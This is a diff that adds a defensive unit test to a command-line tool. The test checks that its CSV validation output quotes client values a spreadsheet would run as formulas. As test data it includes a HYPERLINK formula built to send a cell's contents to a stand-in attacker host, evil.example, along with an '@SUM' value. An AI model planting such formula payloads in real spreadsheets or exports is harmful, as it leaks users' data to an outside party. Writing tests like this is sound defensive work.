@@ -209,3 +209,27 @@ def test_new_scaffolds_an_engagement_and_refuses_a_folder_in_use(capsys, tmp_pat
         f"nistpf: {folder} already exists and is not empty; "
         "choose a new folder for the engagement\n"
     )
+
+
+def test_validate_csv_quotes_client_values_a_spreadsheet_would_run_as_formulas(tmp_path, capsys):
+    import csv as csv_module
+
+    folder = tmp_path / "client"
+    folder.mkdir()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [
+        ["system_id", "name", "criticality"],
+        ["S1", "One", formula],
+        ["S2", "Two", "@SUM(1)"],
+        ["S3", "Three", "High"],
+    ]
+    with (folder / "Systems.csv").open("w", newline="", encoding="utf-8") as stream:
+        csv_module.writer(stream).writerows(rows)
+    code, out, _ = run(capsys, "validate", str(folder), "--format", "csv")
+    assert code == 1
+    read = list(csv_module.DictReader(io.StringIO(out)))
+    values = {row["value"] for row in read if row["column"] == "criticality"}
+    assert values == {"'" + formula, "'@SUM(1)"}
+    for row in read:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
